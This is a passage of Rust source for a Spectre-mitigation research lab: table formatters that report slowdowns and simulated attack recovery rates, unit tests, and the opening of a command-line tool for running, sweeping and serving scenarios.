        let b = run_bench(WorkloadSize::Mini).unwrap().to_json();
        assert_eq!(filter(&a), filter(&b), "non-timing bytes are deterministic");
        assert!(a.contains("\"schema\": \"dbt-lab/bench/v1\""));
    }

    #[test]
    fn per_second_math_is_integer_and_overflow_safe() {
        assert_eq!(per_second(0, 0), 0);
        assert_eq!(per_second(10, 0), 0, "clock too coarse: report 0, not a division fault");
        assert_eq!(per_second(1_000_000, 1_000_000), 1_000_000);
        assert_eq!(per_second(u64::MAX, 1), u64::MAX, "saturates instead of truncating");
        assert_eq!(per_second(3, 2_000_000), 1, "integer floor");
    }
}
