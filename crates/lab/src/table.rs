//! Human-readable emitters: the Figure-4 slowdown table (with a dynamic
//! policy axis) and the Section V-A attack table, both derivable from a
//! [`LabReport`].

use crate::exec::{JobOutcome, LabReport};
use crate::scenario::ScenarioKind;
use dbt_platform::{PlatformError, PolicyComparison, TranslationService};
use dbt_riscv::Program;
use ghostbusters::MitigationPolicy;

/// One row of a slowdown table.
#[derive(Debug, Clone)]
pub struct SlowdownRow {
    /// Workload name.
    pub name: String,
    /// Cycles of the unprotected baseline.
    pub baseline_cycles: u64,
    /// Slowdown (relative execution time, 1.0 = baseline) per policy, in
    /// the column order of the owning [`SlowdownTable`] (for the legacy
    /// [`measure_slowdowns`] helper: the order of [`MitigationPolicy::ALL`]).
    pub slowdown: Vec<f64>,
}

/// A complete slowdown table: the policy axis plus one row per workload.
///
/// The policy axis is data, not a constant: sweeps choose their own policy
/// lists, and the table renders whatever columns the report contains.
#[derive(Debug, Clone)]
pub struct SlowdownTable {
    /// The column axis, in first-appearance order of the report.
    pub policies: Vec<MitigationPolicy>,
    /// One row per `(program, platform)` pair, in first-appearance order.
    pub rows: Vec<SlowdownRow>,
}

/// Measures one workload under every mitigation policy
/// ([`MitigationPolicy::ALL`] order), serially.
///
/// The sweep executor is the preferred way to produce [`SlowdownRow`]s (it
/// parallelises and caches baselines); this helper remains for one-off
/// measurements and backwards compatibility.
///
/// # Errors
///
/// Propagates platform errors (translation faults, budget exhaustion).
pub fn measure_slowdowns(name: &str, program: &Program) -> Result<SlowdownRow, PlatformError> {
    let service = TranslationService::new();
    let comparison = PolicyComparison::measure_with(name, program, &service)?;
    let slowdown =
        MitigationPolicy::ALL.iter().map(|&policy| comparison.slowdown(policy)).collect();
    Ok(SlowdownRow {
        name: name.to_string(),
        baseline_cycles: comparison.unprotected_cycles(),
        slowdown,
    })
}

/// Geometric mean of strictly positive samples (1.0 for an empty slice).
pub fn geometric_mean(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        return 1.0;
    }
    (xs.iter().map(|x| x.max(f64::MIN_POSITIVE).ln()).sum::<f64>() / xs.len() as f64).exp()
}

/// Formats a slowdown table in the layout of the paper's Figure 4, one
/// column per protective policy in the table's axis.
///
/// The summary reports both the arithmetic mean of relative execution times
/// (what the paper's text quotes) and the true geometric mean, each labeled
/// honestly. Missing measurements (NaN slowdowns, e.g. from failed jobs)
/// render as `n/a` and are excluded from both means.
pub fn format_table(table: &SlowdownTable) -> String {
    use std::fmt::Write as _;
    // Column 0 (the unprotected baseline) renders as raw cycles; every
    // other policy gets a percentage column wide enough for its label.
    let columns: Vec<(usize, usize)> = table
        .policies
        .iter()
        .enumerate()
        .filter(|(_, p)| **p != MitigationPolicy::Unprotected)
        .map(|(i, p)| (i, p.label().len().max(9)))
        .collect();

    fn cell(x: f64, width: usize) -> String {
        if x.is_finite() {
            format!("{:>width$.1}%", x * 100.0, width = width)
        } else {
            format!("{:>width$}", "n/a", width = width + 1)
        }
    }

    let mut out = String::new();
    let _ = write!(out, "{:<16} {:>12}", "kernel", "unsafe (cyc)");
    for (index, width) in &columns {
        let _ = write!(out, " {:>w$}", table.policies[*index].label(), w = width + 1);
    }
    out.push('\n');

    let mut samples: Vec<Vec<f64>> = vec![Vec::new(); table.policies.len()];
    for row in &table.rows {
        let _ = write!(out, "{:<16} {:>12}", row.name, row.baseline_cycles);
        for (index, width) in &columns {
            let slowdown = row.slowdown.get(*index).copied().unwrap_or(f64::NAN);
            let _ = write!(out, " {}", cell(slowdown, *width));
        }
        out.push('\n');
        for (column, &slowdown) in samples.iter_mut().zip(&row.slowdown) {
            if slowdown.is_finite() {
                column.push(slowdown);
            }
        }
    }

    let arith = |xs: &[f64]| {
        if xs.is_empty() {
            f64::NAN
        } else {
            xs.iter().sum::<f64>() / xs.len() as f64
        }
    };
    let geo = |xs: &[f64]| if xs.is_empty() { f64::NAN } else { geometric_mean(xs) };
    for (label, mean) in [("arith-mean*", &arith as &dyn Fn(&[f64]) -> f64), ("geo-mean", &geo)] {
        let _ = write!(out, "{:<16} {:>12}", label, "");
        for (index, width) in &columns {
            let _ = write!(out, " {}", cell(mean(&samples[*index]), *width));
        }
        out.push('\n');
    }
    let _ =
        writeln!(out, "(* arithmetic mean of relative execution times, as in the paper's text)");
    out
}

/// Formats a platform-axis table: one row per program, one column per
/// platform variant, cycles relative to the first variant (100% = equal).
///
/// This is the natural layout for sweeps with a single policy and several
/// platform variants (e.g. the speculation ablation).
pub fn format_variant_table(report: &LabReport) -> String {
    use std::fmt::Write as _;
    let mut variants: Vec<String> = Vec::new();
    let mut rows: Vec<(String, Vec<u64>)> = Vec::new();
    for result in &report.results {
        let JobOutcome::Perf(metrics) = &result.outcome else { continue };
        let variant = &result.scenario.platform.name;
        if !variants.iter().any(|v| v == variant) {
            variants.push(variant.clone());
        }
        let column = variants.iter().position(|v| v == variant).expect("just inserted");
        let label = &result.scenario.program_label;
        let index = rows.iter().position(|(name, _)| name == label).unwrap_or_else(|| {
            rows.push((label.clone(), Vec::new()));
            rows.len() - 1
        });
        let row = &mut rows[index].1;
        if row.len() <= column {
            row.resize(column + 1, 0);
        }
        row[column] = metrics.cycles;
    }

    let mut out = String::new();
    let _ = write!(out, "{:<16}", "kernel");
    for (i, variant) in variants.iter().enumerate() {
        if i == 0 {
            let _ = write!(out, " {:>16}", format!("{variant} (cyc)"));
        } else {
            let _ = write!(out, " {:>16}", variant);
        }
    }
    out.push('\n');
    for (name, cycles) in rows {
        let _ = write!(out, "{name:<16}");
        let base = cycles.first().copied().unwrap_or(0).max(1) as f64;
        for (i, &c) in cycles.iter().enumerate() {
            if i == 0 {
                let _ = write!(out, " {c:>16}");
            } else {
                let _ = write!(out, " {:>15.1}%", c as f64 / base * 100.0);
            }
        }
        out.push('\n');
    }
    out
}

/// Formats the Section V-A attack table from an attack-sweep report.
pub fn format_attack_table(report: &LabReport) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(
        out,
        "{:<12} {:<15} {:>10} {:>12} {:>11} {:>10}",
        "attack", "policy", "recovered", "rate", "rollbacks", "patterns"
    );
    for result in &report.results {
        match &result.outcome {
            JobOutcome::Attack(m) => {
                let _ = writeln!(
                    out,
                    "{:<12} {:<15} {:>7}/{:<3} {:>11.0}% {:>11} {:>10}",
                    result.scenario.program_label,
                    result.scenario.policy.label(),
                    m.correct_bytes(),
                    m.secret.len(),
                    m.recovery_rate() * 100.0,
                    m.rollbacks,
                    m.patterns
                );
            }
            JobOutcome::Failed { error } if result.scenario.kind == ScenarioKind::Attack => {
                let _ = writeln!(
                    out,
                    "{:<12} {:<15} failed: {error}",
                    result.scenario.program_label,
                    result.scenario.policy.label(),
                );
            }
            _ => {}
        }
    }
    out
}

impl LabReport {
    /// Collapses the perf results into a Figure-4-style table.
    ///
    /// The policy axis is collected in first-appearance order; rows are
    /// keyed by `(program label, platform)` in first-appearance order, and
    /// the platform name is appended to the row label whenever the sweep
    /// has a non-trivial platform axis. Attack-kind jobs are skipped;
    /// failed jobs leave their slot at NaN, which [`format_table`] renders
    /// as `n/a` and excludes from the means (see [`LabReport::failures`]).
    pub fn slowdown_table(&self) -> SlowdownTable {
        let mut policies: Vec<MitigationPolicy> = Vec::new();
        for result in &self.results {
            if result.scenario.kind == ScenarioKind::Perf
                && !policies.contains(&result.scenario.policy)
            {
                policies.push(result.scenario.policy);
            }
        }
        let multi_platform = {
            let mut platforms: Vec<&str> =
                self.results.iter().map(|r| r.scenario.platform.name.as_str()).collect();
            platforms.sort_unstable();
            platforms.dedup();
            platforms.len() > 1
        };
        let mut rows: Vec<SlowdownRow> = Vec::new();
        let mut keys: Vec<(String, String)> = Vec::new();
        for result in &self.results {
            let metrics = match &result.outcome {
                JobOutcome::Perf(metrics) => Some(metrics),
                JobOutcome::Failed { .. } if result.scenario.kind == ScenarioKind::Perf => None,
                _ => continue,
            };
            let key =
                (result.scenario.program_label.clone(), result.scenario.platform.name.clone());
            let index = match keys.iter().position(|k| *k == key) {
                Some(i) => i,
                None => {
                    let name = if multi_platform {
                        format!("{} [{}]", key.0, key.1)
                    } else {
                        key.0.clone()
                    };
                    keys.push(key);
                    rows.push(SlowdownRow {
                        name,
                        baseline_cycles: 0,
                        slowdown: vec![f64::NAN; policies.len()],
                    });
                    rows.len() - 1
                }
            };
            if let Some(metrics) = metrics {
                let policy_index = policies
                    .iter()
                    .position(|p| *p == result.scenario.policy)
                    .expect("policy was collected above");
                rows[index].baseline_cycles = metrics.baseline_cycles;
                rows[index].slowdown[policy_index] = metrics.slowdown();
            }
        }
        SlowdownTable { policies, rows }
    }

    /// Failed jobs of this sweep, as `(scenario name, error)` pairs — for
    /// surfacing on stderr next to tables that only mark failures as `n/a`.
    pub fn failures(&self) -> Vec<(&str, &str)> {
        self.results
            .iter()
            .filter_map(|r| match &r.outcome {
                JobOutcome::Failed { error } => Some((r.scenario.name.as_str(), error.as_str())),
                _ => None,
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table(rows: Vec<SlowdownRow>) -> SlowdownTable {
        SlowdownTable { policies: MitigationPolicy::ALL.to_vec(), rows }
    }

    fn row(name: &str, slowdown: &[f64]) -> SlowdownRow {
        SlowdownRow { name: name.to_string(), baseline_cycles: 1000, slowdown: slowdown.to_vec() }
    }

    #[test]
    fn geometric_mean_is_the_geometric_mean() {
        assert!((geometric_mean(&[1.0, 4.0]) - 2.0).abs() < 1e-12);
        assert!((geometric_mean(&[2.0, 2.0, 2.0]) - 2.0).abs() < 1e-12);
        assert!((geometric_mean(&[]) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn table_reports_both_means_honestly() {
        // Arithmetic mean of [1.0, 4.0] is 2.5; geometric mean is 2.0 — the
        // table must show both, labeled.
        let t =
            table(vec![row("a", &[1.0, 1.0, 1.0, 1.0, 1.0]), row("b", &[1.0, 1.0, 4.0, 4.0, 4.0])]);
        let text = format_table(&t);
        assert!(text.contains("arith-mean*"), "{text}");
        assert!(text.contains("geo-mean"), "{text}");
        let arith = text.lines().find(|l| l.starts_with("arith-mean*")).unwrap();
        let geo = text.lines().find(|l| l.starts_with("geo-mean")).unwrap();
        assert!(arith.contains("250.0%"), "{arith}");
        assert!(geo.contains("200.0%"), "{geo}");
    }

    #[test]
    fn every_protective_policy_gets_a_labeled_column() {
        let t = table(vec![row("a", &[1.0, 1.0, 1.1, 1.2, 1.3])]);
        let text = format_table(&t);
        let header = text.lines().next().unwrap();
        for policy in &MitigationPolicy::ALL[1..] {
            assert!(header.contains(policy.label()), "missing column {policy}: {header}");
        }
        assert!(header.contains("unsafe (cyc)"));
    }

    #[test]
    fn failed_jobs_render_as_na_and_do_not_poison_the_means() {
        use crate::exec::{ExecStats, JobResult, PerfMetrics};
        use crate::scenario::{PlatformVariant, ProgramSpec, Scenario};
        use dbt_workloads::WorkloadSize;
        use ghostbusters::MitigationPolicy;

        let scenario = |policy| Scenario {
            name: format!("t/gemm/{policy}/default"),
            program_label: "gemm".into(),
            program: ProgramSpec::Workload { name: "gemm", size: WorkloadSize::Mini },
            policy,
            platform: PlatformVariant::default_platform(),
            kind: ScenarioKind::Perf,
        };
        let ok = |policy, cycles| JobResult {
            scenario: scenario(policy),
            outcome: JobOutcome::Perf(PerfMetrics {
                cycles,
                baseline_cycles: 1000,
                rollbacks: 0,
                guest_insts: 0,
                patterns: 0,
            }),
        };
        let report = LabReport {
            sweep: "t".into(),
            results: vec![
                ok(MitigationPolicy::Unprotected, 1000),
                ok(MitigationPolicy::Selective, 1000),
                ok(MitigationPolicy::FineGrained, 1100),
                ok(MitigationPolicy::Fence, 1200),
                JobResult {
                    scenario: scenario(MitigationPolicy::NoSpeculation),
                    outcome: JobOutcome::Failed { error: "budget exhausted".into() },
                },
            ],
            stats: ExecStats {
                jobs: 5,
                simulations: 4,
                baseline_simulations: 1,
                ..ExecStats::default()
            },
        };
        let t = report.slowdown_table();
        assert_eq!(t.rows.len(), 1);
        assert_eq!(t.policies.len(), 5);
        assert!(t.rows[0].slowdown[4].is_nan(), "failed slot must be NaN, not 0.0");
        let text = format_table(&t);
        let gemm = text.lines().find(|l| l.starts_with("gemm")).unwrap();
        assert!(gemm.contains("n/a"), "{text}");
        assert!(!text.contains(" 0.0%"), "failure must not read as a 0% slowdown: {text}");
        let geo = text.lines().find(|l| l.starts_with("geo-mean")).unwrap();
        assert!(geo.trim_end().ends_with("n/a"), "all-failed column mean must be n/a: {geo}");
        assert_eq!(report.failures(), vec![("t/gemm/no-speculation/default", "budget exhausted")]);
    }

    #[test]
    fn measure_slowdowns_has_unit_baseline() {
        let program = crate::scenario::ProgramSpec::Workload {
            name: "gemm",
            size: dbt_workloads::WorkloadSize::Mini,
        }
        .build()
        .unwrap();
        let row = measure_slowdowns("gemm", &program).unwrap();
        assert_eq!(row.slowdown.len(), MitigationPolicy::ALL.len());
        assert!((row.slowdown[0] - 1.0).abs() < 1e-12);
        assert!(row.baseline_cycles > 0);
    }
}
