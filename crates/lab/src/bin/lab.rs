//! The `lab` CLI: list, run and sweep the declared scenarios — locally or
//! through the `dbt-serve` daemon.
//!
//! ```sh
//! cargo run --release -p dbt-lab -- list
//! cargo run --release -p dbt-lab -- run figure4/gemm/our-approach/default
//! cargo run --release -p dbt-lab -- sweep                 # every sweep
//! cargo run --release -p dbt-lab -- sweep figure4 --size small --threads 8
//! cargo run --release -p dbt-lab -- analyze histogram    # taint verdicts
//! cargo run --release -p dbt-lab -- analyze spectre-v1 --dot | dot -Tsvg
//!
//! # The deterministic hot-path profiler and the throughput microbench:
//! cargo run --release -p dbt-lab -- profile spectre_v1 --policy selective --trace trace.json
//! cargo run --release -p dbt-lab -- bench --json-dir artifacts
//!
//! # Ad-hoc guest programs from files (text assembly or image JSON):
//! cargo run --release -p dbt-lab -- run-file examples/spectre_v1_gadget.s --policy fence
//! cargo run --release -p dbt-lab -- analyze examples/spectre_v1_gadget.s
//!
//! # The daemon (see docs/PROTOCOL.md for the wire protocol):
//! cargo run --release -p dbt-lab -- serve --addr 127.0.0.1:4075 &
//! cargo run --release -p dbt-lab -- submit sweep figure4 --addr 127.0.0.1:4075
//! cargo run --release -p dbt-lab -- submit upload examples/spectre_v1_gadget.s --addr 127.0.0.1:4075
//! cargo run --release -p dbt-lab -- submit analyze fp:0123456789abcdef --addr 127.0.0.1:4075
//! cargo run --release -p dbt-lab -- submit stats --addr 127.0.0.1:4075
//! cargo run --release -p dbt-lab -- metrics --addr 127.0.0.1:4075
//! cargo run --release -p dbt-lab -- submit shutdown --addr 127.0.0.1:4075
//!
//! # Load-test an (in-process, unless --addr is given) daemon and emit the
//! # throughput artifact:
//! cargo run --release -p dbt-lab -- loadgen --clients 4 --iterations 8 --json-dir artifacts
//!
//! # Fleet mode (see `dbt-router`): front several daemons with the
//! # consistent-hash router, submit through it, and emit the scaling artifact:
//! cargo run --release -p dbt-lab -- router --backends 127.0.0.1:4075,127.0.0.1:4077
//! cargo run --release -p dbt-lab -- submit run figure4/gemm/selective/default --via-router
//! cargo run --release -p dbt-lab -- loadgen --fleet 3
//! cargo run --release -p dbt-lab -- router-bench --json-dir artifacts
//!
//! # Distributed tracing and the structured event log (docs/OBSERVABILITY.md):
//! cargo run --release -p dbt-lab -- submit run figure4/gemm/selective/default --via-router --trace-id job-1
//! cargo run --release -p dbt-lab -- trace job-1 --via-router --chrome stitched.json
//! cargo run --release -p dbt-lab -- logs --level warn --via-router
//! cargo run --release -p dbt-lab -- loadgen --clients 4 --latency-json latency.json
//! ```
//!
//! `sweep` writes one `BENCH_<sweep>.json` per sweep (stable bytes, diffable
//! across PRs) next to the human tables on stdout.

use dbt_lab::{
    adhoc_scenario, analyze_built, analyze_program, format_attack_table, format_table,
    format_variant_table, profile_program, run_bench, run_sweep, run_sweep_with, strip_stats,
    ExecOptions, LabDaemon, PlatformOverrides, ProgramSpec, Registry, ScenarioKind, SourceKind,
    TranslationService,
};
use dbt_router::{serve_router, QuotaConfig, RouterConfig, RouterHandle};
use dbt_serve::{
    Client, FrameMeta, JsonValue, LoadOptions, ProgramSource, Request, Response, RunKnobs,
    ServerConfig, ServerHandle, DEFAULT_RUN_POLICY,
};
use dbt_workloads::WorkloadSize;
use ghostbusters::MitigationPolicy;
use std::process::ExitCode;
use std::sync::Arc;

struct Args {
    command: String,
    positional: Vec<String>,
    size: WorkloadSize,
    threads: usize,
    json_dir: Option<String>,
    quiet: bool,
    json: bool,
    dot: bool,
    addr: Option<String>,
    workers: usize,
    queue_depth: usize,
    clients: usize,
    iterations: usize,
    policy: String,
    trace: Option<String>,
    backends: Option<String>,
    auth: Option<String>,
    rate: Option<u64>,
    burst: Option<u64>,
    fleet: usize,
    via_router: bool,
    trace_id: Option<String>,
    level: Option<String>,
    chrome: Option<String>,
    latency_json: Option<String>,
    cache_dir: Option<String>,
    restart: bool,
    budget: Option<u64>,
}

/// Default daemon address when `--addr` is not given.
const DEFAULT_ADDR: &str = "127.0.0.1:4075";

/// Default router address for `lab router` and `--via-router`.
const DEFAULT_ROUTER_ADDR: &str = "127.0.0.1:4076";

fn usage() -> &'static str {
    "usage: lab <command> [options]\n\
     \n\
     commands:\n\
     \x20 list                     list declared sweeps and their scenarios\n\
     \x20 run <scenario>           run one scenario by full name\n\
     \x20 run-file <path>          run an ad-hoc guest program from a .s\n\
     \x20                          assembly or .json program-image file\n\
     \x20                          under --policy\n\
     \x20 sweep [name ...]         run the named sweeps (default: all)\n\
     \x20 profile <program>        deterministic hot-path profile of one\n\
     \x20                          program under --policy: per-phase cycle\n\
     \x20                          attribution, speculation events, and a\n\
     \x20                          Chrome-trace export via --trace\n\
     \x20 bench                    simulator-throughput microbenchmark over\n\
     \x20                          every registry workload (writes\n\
     \x20                          BENCH_sim-throughput.json with --json-dir)\n\
     \x20 analyze <program|path>   per-block speculative-taint verdicts\n\
     \x20                          (a workload name, ptr-matmul, spectre-v1,\n\
     \x20                          spectre-v4, or a .s/.json file path)\n\
     \x20 serve                    run the lab daemon (NDJSON over TCP)\n\
     \x20 submit <op> [arg]        send one request to a running daemon\n\
     \x20                          (run <scenario|ref> | profile [ref] |\n\
     \x20                           sweep <name> | analyze <program|ref> |\n\
     \x20                           upload <path> |\n\
     \x20                           stats | metrics | health | shutdown) and\n\
     \x20                          print the response body; refs are\n\
     \x20                          registry:<name> or fp:<hex> from a\n\
     \x20                          previous upload\n\
     \x20 metrics                  scrape a running daemon's Prometheus\n\
     \x20                          text exposition (alias of submit metrics)\n\
     \x20 trace <trace_id>         fetch the span tree of one traced request\n\
     \x20                          (stitched across router and backend with\n\
     \x20                          --via-router); --chrome exports Chrome\n\
     \x20                          trace_event JSON\n\
     \x20 logs                     fetch the daemon's (or, with --via-router,\n\
     \x20                          the router's) structured event log,\n\
     \x20                          filtered by --level\n\
     \x20 loadgen                  drive N concurrent clients against a\n\
     \x20                          daemon and emit BENCH_serve-throughput\n\
     \x20 router                   front a daemon fleet with the consistent-\n\
     \x20                          hash router (requires --backends; optional\n\
     \x20                          --auth/--rate/--burst enforce protocol v3)\n\
     \x20 router-bench             loadgen through an in-process router at\n\
     \x20                          1/2/4 in-process backends and emit\n\
     \x20                          BENCH_router-scaling with --json-dir\n\
     \x20 cache <action>           inspect or maintain a durable cache dir\n\
     \x20                          without a daemon (stats | gc | clear;\n\
     \x20                          requires --cache-dir, gc also --budget)\n\
     \n\
     options:\n\
     \x20 --size mini|small        problem-size preset (default: mini)\n\
     \x20 --policy LABEL           run-file / submit run <ref>: mitigation\n\
     \x20                          policy (default: selective)\n\
     \x20 --threads N              worker threads (default: one per CPU)\n\
     \x20 --json-dir DIR           write BENCH_<sweep>.json files to DIR\n\
     \x20 --json                   analyze/profile: stable machine-readable\n\
     \x20                          output\n\
     \x20 --trace PATH             profile: write a Chrome trace_event JSON\n\
     \x20                          file (chrome://tracing, ui.perfetto.dev)\n\
     \x20 --trace-id ID            submit: put this trace id on the frame so\n\
     \x20                          the request's span tree is fetchable with\n\
     \x20                          `lab trace ID` afterwards\n\
     \x20 --chrome PATH            trace: write the fetched span tree as a\n\
     \x20                          Chrome trace_event JSON file\n\
     \x20 --level LEVEL            logs: minimum level to fetch\n\
     \x20                          (debug|info|warn|error; default: debug)\n\
     \x20 --latency-json PATH      loadgen: write the per-op latency snapshot\n\
     \x20                          (percentiles + the slowest request's span\n\
     \x20                          tree per op) as JSON; never a BENCH file\n\
     \x20 --dot                    analyze: Graphviz with the taint overlay\n\
     \x20 --quiet                  no per-job progress on stderr\n\
     \x20 --addr HOST:PORT         daemon address (default: 127.0.0.1:4075;\n\
     \x20                          loadgen: in-process daemon when omitted)\n\
     \x20 --workers N              serve: worker pool size (default: 2)\n\
     \x20 --queue-depth N          serve: job queue bound (default: 16)\n\
     \x20 --clients N              loadgen: concurrent clients (default: 4)\n\
     \x20 --iterations N           loadgen: passes per client (default: 8)\n\
     \x20 --fleet N                loadgen: drive N in-process daemons behind\n\
     \x20                          an in-process router instead of one daemon\n\
     \x20 --backends LIST          router: comma-separated daemon addresses\n\
     \x20 --via-router             submit/metrics: default --addr becomes the\n\
     \x20                          router's 127.0.0.1:4076\n\
     \x20 --auth TOKEN             router: the one accepted bearer token\n\
     \x20                          (default: auth off); submit/metrics: the\n\
     \x20                          token to present (protocol v3)\n\
     \x20 --rate N                 router: quota refill, tokens/sec per\n\
     \x20                          client (default: quota off)\n\
     \x20 --burst N                router: quota burst (default: --rate)\n\
     \x20 --cache-dir DIR          serve/loadgen: durable content-addressed\n\
     \x20                          cache surviving daemon restarts (default:\n\
     \x20                          off; answers stay byte-identical either\n\
     \x20                          way); cache: the directory to operate on\n\
     \x20 --restart                loadgen: drive a cold daemon, tear it\n\
     \x20                          down, relaunch on the same cache dir and\n\
     \x20                          drive again; reports cold-vs-warm hit\n\
     \x20                          rates on stderr and fails on any response\n\
     \x20                          divergence (never writes BENCH files)\n\
     \x20 --budget BYTES           cache gc: the byte budget to evict down to\n"
}

fn parse(args: &[String]) -> Result<Args, String> {
    let mut parsed = Args {
        command: args.first().cloned().ok_or_else(|| "missing command".to_string())?,
        positional: Vec::new(),
        size: WorkloadSize::Mini,
        threads: 0,
        json_dir: None,
        quiet: false,
        json: false,
        dot: false,
        addr: None,
        workers: 2,
        queue_depth: 16,
        clients: 4,
        iterations: 8,
        policy: DEFAULT_RUN_POLICY.to_string(),
        trace: None,
        backends: None,
        auth: None,
        rate: None,
        burst: None,
        fleet: 0,
        via_router: false,
        trace_id: None,
        level: None,
        chrome: None,
        latency_json: None,
        cache_dir: None,
        restart: false,
        budget: None,
    };
    let mut it = args[1..].iter();
    let number = |flag: &str, it: &mut std::slice::Iter<String>| {
        it.next()
            .and_then(|v| v.parse::<usize>().ok())
            .ok_or_else(|| format!("{flag} expects a number"))
    };
    while let Some(arg) = it.next() {
        match arg.as_str() {
            "--size" => {
                parsed.size = match it.next().map(String::as_str) {
                    Some("mini") => WorkloadSize::Mini,
                    Some("small") => WorkloadSize::Small,
                    other => return Err(format!("--size expects mini|small, got {other:?}")),
                };
            }
            "--threads" => parsed.threads = number("--threads", &mut it)?,
            "--workers" => parsed.workers = number("--workers", &mut it)?,
            "--queue-depth" => parsed.queue_depth = number("--queue-depth", &mut it)?,
            "--clients" => parsed.clients = number("--clients", &mut it)?,
            "--iterations" => parsed.iterations = number("--iterations", &mut it)?,
            "--fleet" => parsed.fleet = number("--fleet", &mut it)?,
            "--rate" => parsed.rate = Some(number("--rate", &mut it)? as u64),
            "--burst" => parsed.burst = Some(number("--burst", &mut it)? as u64),
            "--backends" => {
                parsed.backends = Some(
                    it.next()
                        .ok_or_else(|| "--backends expects host:port[,host:port...]".to_string())?
                        .clone(),
                );
            }
            "--auth" => {
                parsed.auth =
                    Some(it.next().ok_or_else(|| "--auth expects a token".to_string())?.clone());
            }
            "--via-router" => parsed.via_router = true,
            "--json-dir" => {
                parsed.json_dir =
                    Some(it.next().ok_or_else(|| "--json-dir expects a path".to_string())?.clone());
            }
            "--addr" => {
                parsed.addr =
                    Some(it.next().ok_or_else(|| "--addr expects host:port".to_string())?.clone());
            }
            "--policy" => {
                parsed.policy =
                    it.next().ok_or_else(|| "--policy expects a policy label".to_string())?.clone();
            }
            "--trace" => {
                parsed.trace =
                    Some(it.next().ok_or_else(|| "--trace expects a path".to_string())?.clone());
            }
            "--trace-id" => {
                parsed.trace_id =
                    Some(it.next().ok_or_else(|| "--trace-id expects an id".to_string())?.clone());
            }
            "--level" => {
                parsed.level = Some(
                    it.next()
                        .ok_or_else(|| "--level expects debug|info|warn|error".to_string())?
                        .clone(),
                );
            }
            "--chrome" => {
                parsed.chrome =
                    Some(it.next().ok_or_else(|| "--chrome expects a path".to_string())?.clone());
            }
            "--latency-json" => {
                parsed.latency_json = Some(
                    it.next().ok_or_else(|| "--latency-json expects a path".to_string())?.clone(),
                );
            }
            "--cache-dir" => {
                parsed.cache_dir = Some(
                    it.next().ok_or_else(|| "--cache-dir expects a path".to_string())?.clone(),
                );
            }
            "--budget" => parsed.budget = Some(number("--budget", &mut it)? as u64),
            "--restart" => parsed.restart = true,
            "--quiet" => parsed.quiet = true,
            "--json" => parsed.json = true,
            "--dot" => parsed.dot = true,
            flag if flag.starts_with("--") => return Err(format!("unknown option {flag}")),
            positional => parsed.positional.push(positional.to_string()),
        }
    }
    Ok(parsed)
}

fn cmd_list(registry: &Registry) {
    for sweep in registry.sweeps() {
        println!("{} — {} ({} scenarios)", sweep.name, sweep.description, sweep.job_count());
        for scenario in sweep.expand() {
            println!("  {}", scenario.name);
        }
    }
}

fn cmd_run(registry: &Registry, args: &Args) -> Result<(), String> {
    let name = args
        .positional
        .first()
        .ok_or_else(|| "run expects a scenario name (see `lab list`)".to_string())?;
    let scenario = registry
        .find_scenario(name)
        .ok_or_else(|| format!("unknown scenario `{name}` (see `lab list`)"))?;
    let opts = ExecOptions { threads: 1, verbose: !args.quiet };
    let report = run_sweep(name, std::slice::from_ref(&scenario), opts);
    print!("{}", report.to_json());
    Ok(())
}

fn cmd_sweep(registry: &Registry, args: &Args) -> Result<(), String> {
    let sweeps: Vec<_> = if args.positional.is_empty() {
        registry.sweeps().iter().collect()
    } else {
        args.positional
            .iter()
            .map(|name| registry.find(name).ok_or_else(|| format!("unknown sweep `{name}`")))
            .collect::<Result<_, _>>()?
    };
    let opts = ExecOptions { threads: args.threads, verbose: !args.quiet };
    // One translation service for the whole invocation: later sweeps reuse
    // every compile earlier sweeps already paid for (each report still
    // counts only the queries its own sessions issued).
    let service = TranslationService::new();
    let mut total_jobs = 0;
    let mut total_hits = 0u64;
    let mut total_misses = 0u64;
    let sweep_count = sweeps.len();
    for sweep in sweeps {
        let scenarios = sweep.expand();
        if !args.quiet {
            eprintln!(
                "[lab] sweep `{}`: {} scenarios on {} thread(s)",
                sweep.name,
                scenarios.len(),
                opts.effective_threads(scenarios.len())
            );
        }
        let report = run_sweep_with(&sweep.name, &scenarios, opts, &service);
        total_jobs += report.stats.jobs;
        total_hits += report.stats.translation_hits;
        total_misses += report.stats.translation_misses;
        for (name, error) in report.failures() {
            eprintln!("[lab] skipped {name} ({error})");
        }

        println!("== {} — {}\n", sweep.name, sweep.description);
        let has_perf = report.results.iter().any(|r| r.scenario.kind == ScenarioKind::Perf);
        let has_attack = report.results.iter().any(|r| r.scenario.kind == ScenarioKind::Attack);
        // A perf sweep with one policy and several platform variants
        // compares machines, not countermeasures — use the variant layout
        // (e.g. the speculation ablation).
        if has_perf && sweep.policies.len() == 1 && sweep.platforms.len() > 1 {
            println!("{}", format_variant_table(&report));
        } else if has_perf {
            println!("{}", format_table(&report.slowdown_table()));
        }
        if has_attack {
            println!("{}", format_attack_table(&report));
        }

        if let Some(dir) = &args.json_dir {
            let path = format!("{dir}/BENCH_{}.json", sweep.name);
            std::fs::write(&path, report.to_json())
                .map_err(|e| format!("cannot write {path}: {e}"))?;
            if !args.quiet {
                eprintln!("[lab] wrote {path}");
            }
        }
    }
    if !args.quiet {
        eprintln!(
            "[lab] {total_jobs} scenario(s) executed across {sweep_count} sweep(s); \
             translation cache: {total_hits} hits / {total_misses} misses"
        );
    }
    Ok(())
}

/// Reads an ad-hoc program source file: `.s` is text assembly, `.json` a
/// program image; anything else is sniffed (a leading `{` means image).
/// Returns the file stem (the report label), the source kind and the text.
fn load_source(path: &str) -> Result<(String, SourceKind, String), String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("cannot read {path}: {e}"))?;
    let kind = if path.ends_with(".json") {
        SourceKind::Image
    } else if path.ends_with(".s") {
        SourceKind::Asm
    } else if text.trim_start().starts_with('{') {
        SourceKind::Image
    } else {
        SourceKind::Asm
    };
    let stem = std::path::Path::new(path)
        .file_stem()
        .and_then(|s| s.to_str())
        .unwrap_or("program")
        .to_string();
    Ok((stem, kind, text))
}

/// `true` when an `analyze` argument names a source file rather than a
/// registry program. Only the explicit `.s`/`.json` suffixes route to the
/// filesystem — a stray local file must never shadow a registry name.
fn looks_like_path(arg: &str) -> bool {
    arg.ends_with(".s") || arg.ends_with(".json")
}

fn cmd_run_file(args: &Args) -> Result<(), String> {
    let path = args
        .positional
        .first()
